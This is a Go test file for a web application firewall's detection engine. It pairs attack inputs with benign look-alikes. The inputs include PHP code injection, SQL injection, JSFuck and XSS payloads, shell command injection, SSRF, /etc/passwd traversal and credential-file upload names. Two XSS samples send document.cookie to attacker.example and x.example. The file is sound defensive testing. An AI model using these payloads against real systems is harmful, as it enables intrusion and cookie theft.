package detect

import (
	"testing"

	"github.com/lambdawaf/lambdawaf/agent/event"
)

// TestGrammarCatches covers attacks found by reading the value with its
// sink's grammar (PHP expressions, JavaScript constants, SQL JSON
// operators, ...), each next to look-alike benign inputs checked against
// the same code path.
func TestGrammarCatches(t *testing.T) {
	e := New(Options{})
	cases := []struct {
		name string
		v    event.Value
		want Class // "" means no signal at all
	}{
		// PHP: callees built at run time
		{"php braced variable call", q("foo", "${@a}(10)"), CodeInj},
		{"php braced quoted variable call", q("foo", "${'a'}(11)"), CodeInj},
		{"php braced expression call", q("x", "$ {@_.__}(31);"), CodeInj},
		{"php braced property call", q("x", "${$foo->bar}(200)"), CodeInj},
		{"php subscripted variable call", q("x", "$_aB_4c[5]['d'] /*lol*/ (17)"), CodeInj},
		{"php subscripted call across line comments", q("x", "$_aB_4c #foo\r\n\t[5]//bar\r\n\t['d'] /*foo*/ (17)"), CodeInj},
		{"php commented subscripts then blank call", body("x", "$_aB_4c[@5]/*wat*/[@d] ()"), CodeInj},
		{"php smarty block", q("foo", `echo "test"{/php}`), CodeInj},
		{"benign smarty-like braces", body("msg", "call {phone} or {/phone} later"), ""},
		{"php brace subscript call", body("c", "$OOO000000{0}(15)"), CodeInj},
		{"php concatenated callee", q("x", "(sy.(st).em)('uname');"), CodeInj},
		{"php concatenated literals", q("x", `( string ) "sys"."t"."em" ('uname');`), CodeInj},
		{"php define concatenation", q("x", "define('x', 'sys' . 'tem');(x)/* comment */('uname');"), CodeInj},
		{"php array callee", q("x", "[system][0](ls);"), CodeInj},
		{"php spaced array callee", q("x", "[ system ] [ 0 ] ( ls );"), CodeInj},
		{"php parenthesised array callee", q("x", "(['system'])[0]('uname');"), CodeInj},
		{"php commented callee", q("x", "(/* comment */system)(ls/* comment */);"), CodeInj},
		{"benign template then parenthesis", body("msg", "Total ${total} (incl. VAT)"), ""},
		{"benign price then parenthesis", body("msg", "Costs $items[0] (the first one) only"), ""},
		{"benign parenthesised word", body("msg", "Restart the (system) (optional) tonight."), ""},
		{"benign quoted words with dots", body("msg", `He said "sys". "tem" was a typo.`), ""},
		{"benign js subscript", body("code", "const f = handlers[name]; f(event);"), ""},
		{"php variable variable quoted", q("foo", "${'ff'}"), CodeInj},
		{"php variable variable spaced", q("foo", "$    {$a}"), CodeInj},
		{"php variable variable constant", q("foo", "$     {   CONSTANT   }"), CodeInj},
		{"php variable variable concatenation", q("foo", "$ {'_VAR'.'IABLE_NAME'}"), CodeInj},
		{"benign template placeholder", body("msg", "Hello ${name}, welcome"), ""},
		// Accepted cost: no template language writes "$ {", so PHP is the reading.
		{"spaced dollar brace reads as php", body("msg", "costs $ {see table}"), CodeInj},
		{"php ini extension", body("var", "extension=true"), CodeInj},
		{"php ini mbstring", body("var", "mbstring.regex_retry_limit=1"), CodeInj},
		{"php ini in uploaded file", body("ini", "; user settings\nengine = Off\n"), CodeInj},
		{"benign file extension setting", body("var", "file_extension=pdf"), ""},
		{"benign engine prose", body("var", "engine is set = true in prose"), ""},
		{"benign empty directive", body("var", "precision="), ""},
		{"php call with comment before parenthesis", q("test", "I don't like gzuncompress/*comment*/()"), CodeInj},
		{"php call left open", q("test", "base64_decode("), CodeInj},
		{"php defined functions", body("foo", "get_defined_functions()[0]"), CodeInj},
		{"php posix id", body("p", "posix_getegid()"), CodeInj},
		{"benign function name in prose", body("note", "call base64_decode (see docs) to read it"), ""},
		{"benign open parenthesis", body("note", "file("), ""},
		{"benign spaced open call", q("foo", "exec ("), ""},
		{"benign open call in path", path("/get/eval("), ""},
		{"php whole call empty", q("foo", "strip_tags()"), CodeInj},
		{"php whole call name argument", q("test", "printf(foo)"), CodeInj},
		{"php whole call spaced", q("foo", "filegroup  (blah)"), CodeInj},
		{"js whole call atob", q("arg", "atob()"), XSS},
		{"benign printf prose", body("note", "use printf(foo) to print, then exit"), ""},
		{"benign math call", q("expr", "f(x)"), ""},
		{"benign atob prose", body("note", "atob() decodes base64; see MDN"), ""},
		// JavaScript: loops whose condition is a constant truth
		{"js while minus infinity", q("eval", "while(-Infinity);"), CodeInj},
		{"js while plus one", q("eval", "while(+1);"), CodeInj},
		{"js while double not object", q("eval", "while(!!{});"), CodeInj},
		{"js while double not array", q("eval", "while(!![]);"), CodeInj},
		{"benign while empty string", q("eval", `while(!!"");`), ""},
		{"benign while plus object", q("eval", "while(+{}) x();"), ""},
		// SQL: JSON documents queried in an injected condition (942550)
		{"sql json arrow", body("id", `OR '{"a":2,"c":[4,5,{"f":7}]}' -> '$.c[2].f' = 7`), SQLi},
		{"sql json less than path", q("q", `'{"a":2,"c":[4,5,{"f":7}]}' < '$.c[2].f' = 7`), SQLi},
		{"sql json key exists", body("id", `OR '{"a":"b"}' ? 'a'`), SQLi},
		{"sql json any key", body("id", `OR '{"name":"asd"}' ?| array['a','name']`), SQLi},
		{"sql json function after or", body("id", `OR json_extract('{"id": 14, "name": "Aztalan"}', '$.name') = 'Aztalan'`), SQLi},
		{"benign json in quotes", body("note", `send '{"a":1}' as the body, then check`), ""},
		{"benign arrow prose", body("note", `rename '[draft]' -> final copy`), ""},
		{"benign json function name", body("note", "Use json_extract to read nested fields."), ""},
		// XSS: JavaScript grammar
		{"jsfuck short", body("a", "(![]+[])[+!+[]]"), XSS},
		{"jsfuck form decoded", body("a", " !![]"), XSS},
		{"tagged template with blanks", q("xss", "[  ] . sort . call ` ${ alert } 1337 `"), XSS},
		{"timer with identifier", q("arg", "setInterval(code, 1)"), XSS},
		{"timer after breakout", q("arg", `x";setTimeout(name, 1)//`), XSS},
		{"dom write textContent", body("foo", `document.querySelector("p").textContent="XSS"`), XSS},
		{"dom append created element", body("foo", `document.body.appendChild(document.createElement("h1")).textContent = "XSS"`), XSS},
		{"handler opening unquoted attribute", event.Value{Part: event.PartQuery, Location: "query.x", Key: "  onload= ", Text: "  onload= ", IsKey: true, Record: -1}, XSS},
		{"benign markdown empty image", body("md", "![]()"), ""},
		{"benign empty list", body("tags", "[]"), ""},
		{"benign timer prose", body("note", "call setTimeout(fn) later, not setInterval"), ""},
		{"benign dom read", body("code", `const p = document.querySelector("p"); if (p.textContent == "x") {}`), ""},
		{"benign leading blank online", body("status", " online"), ""},
		{"sql versioned comment", q("id", "9999 or {if length((/*!5000select username/*!50000from*/user where id=1))>0}"), SQLi},
		{"sql declare variable", body("pay", "declare @b\n"), SQLi},
		{"sql declare across comment", body("pay", "DECLARE/**/@x\n"), SQLi},
		{"sql declare typed", body("pay", "declare @s varchar(8000)"), SQLi},
		{"sql procedure analyse", body("var", "procedure analyse ("), SQLi},
		{"sql if numeric comparison", q("var", "if(1234="), SQLi},
		{"sql large object read", q("id", "lo_get(16400)"), SQLi},
		{"benign declare prose", body("note", "declare @home as your handle"), ""},
		{"benign js equality", body("code", "if(2==x) y();"), ""},
		{"benign stored procedure prose", body("note", "the procedure analyses the data (daily)"), ""},
		// SQL statements opening a value
		{"sql select timing", q("var", "select pg_sleep"), SQLi},
		{"sql select call", q("test", "select if(x"), SQLi},
		{"sql select paren", body("p", "select(user(\n"), SQLi},
		{"sql select spaced call", q("sql_table", "SeleCT sLeEp (mOD(10,5))"), SQLi},
		{"sql group by having", q("var", "SELECT x GROUP BY SOMETHING HAVING COUNT(Id) >= 9"), SQLi},
		{"sql alter table", body("pay", "ALTER TABLE `t` ADD `video` TEXT CHARACTER SET latin1\n"), SQLi},
		{"sql create function", q("var", "CREATE FUNCTION hello (s CHAR(20)) RETURNS CHAR(50) DETERMINISTIC RETURN CONCAT('Hello, ',s,'!');"), SQLi},
		{"sql replace values", q("test", ";RePLAcE/*test*/test/*test*/(id, name) VALUES (1, 'test');"), SQLi},
		{"sql execute immediate", q("var", `EXECUTE IMMEDIATE "`), SQLi},
		{"sql union across comment distinctrow", body("id", "@.:=right(right((select user_login from wordpress.wp_users limit 1,1),1111),1111) union#\ndistinctrow\vselect@."), SQLi},
		{"sql parenthesis like", q("var", ") like ("), SQLi},
		{"sql parenthesis like tight", q("var", ")like("), SQLi},
		{"sql case when", q("var", " case when condition1 then result1"), SQLi},
		{"sql alias from", body("var", `1234 AS "foobar" FROM tablevar2=whatever`), SQLi},
		{"sql open alias from", body("p", `6 As" from`), SQLi},
		{"sql scientific notation name", body("foo", "1.e.tables"), SQLi},
		{"benign smiley paren", body("note", ":) like (seriously) great"), ""},
		{"benign case prose", body("note", "In case when you arrive, then call me."), ""},
		{"benign known as from", body("note", `She is known as "Bob" from Texas`), ""},
		{"benign version e", body("v", "v1.e.2"), ""},
		{"sql whole call div", q("id", "div(23,-2)"), SQLi},
		{"sql whole call spaced", q("id", "div (23.23 , 2)"), SQLi},
		{"benign call of a name", q("id", "div(a)"), ""},
		{"benign version in parens", body("v", "release (1.2.3)"), ""},
		{"benign select count prose", body("note", "Select 2 items from the list below"), ""},
		{"benign select aside", body("note", "Select one (or more) of the options"), ""},
		{"benign create table prose", body("note", "Create table reservations for the party"), ""},
		{"benign delete prose", body("note", "Delete from my account the old address"), ""},
		{"benign update prose", body("note", "Update my profile set to public"), ""},
		{"benign insert prose", body("note", "Insert into the slot the new card"), ""},
		{"lfi backup of subuid", q("code", "cat /etc/subuid-"), PathTraversal},
		{"lfi backup of passwd", q("file", "/etc/passwd-"), PathTraversal},
		{"benign etc prose with dash", body("note", "see /etc/passwd-style files in the docs"), ""},
		{"lfi tomcat path parameters", q("a", `..;.\.;\.`), PathTraversal},
		// Uploads of configuration and credential files
		{"upload boto config", hdr("x-filename", ".boto"), CodeInj},
		{"upload wp-config copy", hdr("x-filename", "wp-config_php.txt"), CodeInj},
		{"upload config with trailing blank", hdr("x-filename", "config.yml "), CodeInj},
		{"upload authorized keys path", body("filename", "../.ssh/authorized_keys"), CodeInj},
		{"upload php with version digits and dots", hdr("x-file-name", "fthi/sfewfda.php907............."), CodeInj},
		{"upload phpt", hdr("x.filename", "dangerous.phpt"), CodeInj},
		{"upload session file unix path", hdr("x_filename", "/tmp/sess_abc123def456ghi789jkl"), CodeInj},
		{"upload session file windows path", hdr("x-file-name", `C:\temp\sess_malicious12345678901`), CodeInj},
		{"benign upload dotted directory", hdr("x-filename", "v1.2/readme"), ""},
		{"benign upload photo", hdr("x-filename", "holiday.jpg"), ""},
		{"benign upload config-like name", hdr("x-filename", "my-config.yml"), ""},
		{"benign non-upload key", body("note", ".env"), ""},
		{"file URL in a sentence", body("doc", "References of the form <file:///usr/doc/ZZZ> don't work because distributions differ"), ""},
		{"file URL as a value", body("doc", "file:///usr/doc/zzz"), SSRF},
		{"C if with its statements on the next lines", body("code", "if (p == end) {\n    p--;\n    goto toolong;\n}"), ""},
		{"batch if with its command", q("a", "if exist c:\\boot.ini echo found"), CommandInj},
		{"config named in a JSON document", body("single_file_name", "config.yml"), ""},
		{"script named in a JSON document", body("file_name", "shell.php"), CodeInj},
		{"config as a multipart file name", event.Value{Part: event.PartBody, Location: "body.upload.filename", Key: "filename", Text: "config.yml", Record: -1}, CodeInj},
		// React Flight references walking to a prototype (CVE-2025-55182)
		{"flight constructor chain", q("test", `{'_formData':{'get':'$3:constructor:constructor'}, '_chunks':'$2:_response:_chunks',}`), CodeInj},
		{"flight module prototype", body("0", `{"reason":{"0":"$7:Module:prototype","toString":"$b:pop"}}`), CodeInj},
		{"benign flight references", body("0", `{"a":"$1:props:children","b":"$2"}`), ""},
		{"benign price with colon", body("note", "Total $5: constructor fee"), ""},
		{"xss formaction after quote", q("body", "'formaction="), XSS},
		{"xss utf-7 script", q("id", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), XSS},
		{"benign formaction word", body("note", "the formaction attribute = see docs"), ""},
		{"benign plus ad text", body("note", "C++ADwords-campaign"), ""},
		{"sql identifier cast", q("id", "password::int"), SQLi},
		{"benign cpp scope", body("code", "std::string"), ""},
		{"benign ruby constant", body("code", "Foo::Bar"), ""},
		// Java: CORBA classes (944130)
		{"java corba package", body("test", "org.omg.CORBA"), CodeInj},
		{"java corba in header", hdr("test", "org.omg.CORBA"), CodeInj},
		{"benign org domain", body("site", "see omg.org and org.example.app"), ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			sigs := e.Inspect(tc.v, nil)
			if tc.want == "" {
				if len(sigs) > 0 {
					t.Errorf("Inspect(%q @%s) = [%s], want none", tc.v.Text, tc.v.Location, classes(sigs))
				}
				return
			}
			if !hasClass(sigs, tc.want) {
				t.Errorf("Inspect(%q @%s) = [%s], want class %s", tc.v.Text, tc.v.Location, classes(sigs), tc.want)
			}
		})
	}
}

// TestClassifiesByFirstSignal checks the class of the first (deciding)
// signal where two readings compete: an HTML element whose attribute
// quoting also fingerprints as SQL is XSS; SQL that happens to contain
// "<" stays SQL injection.
func TestClassifiesByFirstSignal(t *testing.T) {
	e := New(Options{})
	json := func(key, text string) event.Value {
		return event.Value{Part: event.PartBody, Location: "body." + key, Key: key, Text: text, Record: -1}
	}
	cases := []struct {
		name string
		v    event.Value
		want Class
	}{
		{"img onerror fetch cookie in json", json("comment", `<img src=x onerror="fetch('//attacker.example/'+document.cookie)">`), XSS},
		{"img onerror alert", json("comment", `<img src=x onerror=alert(1)>`), XSS},
		{"svg onload quoted", q("q", `<svg/onload="location='//x.example/?c='+document.cookie">`), XSS},
		{"script element with sql-looking body", q("q", `<script>x='1' or '1'='1'</script>`), XSS},
		{"sql with less-than", q("id", "1 AND 2<3 UNION SELECT password FROM users--"), SQLi},
		{"sql quote breakout with comparison", q("id", "' OR 1<2--"), SQLi},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			sigs := e.Inspect(tc.v, nil)
			if len(sigs) == 0 || sigs[0].Class != tc.want {
				t.Errorf("Inspect(%q) = [%s], want first class %s", tc.v.Text, classes(sigs), tc.want)
			}
		})
	}
}

// TestShellGrammar covers shell and cmd.exe statements read with their
// grammar, and the look-alikes checked against it.
func TestShellGrammar(t *testing.T) {
	e := New(Options{})
	cases := []struct {
		text string
		want Class
	}{
		{`IF "%1"=="/?" ...`, CommandInj},
		{`if not %1 == "" (`, CommandInj},
		{`if not {%1} == {}`, CommandInj},
		{"if a==b foo", CommandInj},
		{"if/i a==b foo", CommandInj},
		{`if /i not  "a"=="b"  foo`, CommandInj},
		{"alias 'letter'=curl", CommandInj},
		{"alias a=b", CommandInj},
		{"alias +m a=b", CommandInj},
		{"time; chef-shell\n", CommandInj},
		{"time; cscli alerts list", CommandInj},
		{"~+", CommandInj},
		{"~-1", CommandInj},
		{`$SHELL -c "echo hi"`, CommandInj},
		{`${SHELL} -c "echo hi"`, CommandInj},
		{"~", ""},
		{"~5 minutes", ""},
		{"$SHELL is your login shell", ""},
		{"/usr/bin/[u]name -a", CommandInj},
		{"/bi[n]/bash", CommandInj},
		{"/[e///]tc", CommandInj},
		{"/usr/[a-z]in/bash", CommandInj},
		{"<(cat file)", CommandInj},
		{"${x#{}}", CommandInj},
		{"${PATH#{}/}", CommandInj},
		{"/docs/[draft]/readme", ""},
		{"see items[0]/name", ""},
		{"${PORT:-8080}", ""},
		{"a <(b) c", ""},
		{"ti''me sh -c whoami", CommandInj},
		{"'TiMe Sh -c whoami", CommandInj},
		{"Rock 'n' roll -- the sh -c way", CommandInj},
		{"Tom's shop: the 'best' deals", ""},
		{"ls /a[b///]c", CommandInj},
		{"!-1!-2", CommandInj},
		{"!!", ""},
		{"wow!-1 point", ""},
		{"if a == b:", ""},
		{"if a == b and c", ""},
		{"if (a == b) { return 1; }", ""},
		{"if you can, call me", ""},
		{"alias of the user", ""},
		{"alias: Bob", ""},
		{"the chef ran the kitchen", ""},
	}
	for _, tc := range cases {
		sigs := e.Inspect(q("foo", tc.text), nil)
		switch {
		case tc.want == "" && len(sigs) > 0:
			t.Errorf("Inspect(%q) = [%s], want none", tc.text, classes(sigs))
		case tc.want != "" && !hasClass(sigs, tc.want):
			t.Errorf("Inspect(%q) = [%s], want class %s", tc.text, classes(sigs), tc.want)
		}
	}
}

// TestLoopbackNames covers host names that resolve to the loopback
// address, judged in a URL parameter with or without a scheme.
func TestLoopbackNames(t *testing.T) {
	e := New(Options{})
	cases := []struct {
		text string
		want Class
	}{
		{"localhost4/", SSRF},
		{"localhost4.localdomain4/", SSRF},
		{"http://localtest.me/admin", SSRF},
		{"lvh.me/", SSRF},
		{"http:127.0.0.1", SSRF},
		{"http:/169.254.169.254/latest", SSRF},
		{"data:text/plain;base64,SSBsb3ZlIFBIUAo=", RFI},
		{"data:text/plain", RFI},
		{"data:image/png;base64,iVBORw0KGgo=", ""},
		{"http:example.com", ""},
		{"https://www.lvh.me.example.com/", ""},
		{"https://example.com/localtest.me", ""},
	}
	for _, tc := range cases {
		sigs := e.Inspect(q("url", tc.text), nil)
		switch {
		case tc.want == "" && len(sigs) > 0:
			t.Errorf("Inspect(%q) = [%s], want none", tc.text, classes(sigs))
		case tc.want != "" && !hasClass(sigs, tc.want):
			t.Errorf("Inspect(%q) = [%s], want class %s", tc.text, classes(sigs), tc.want)
		}
	}
}
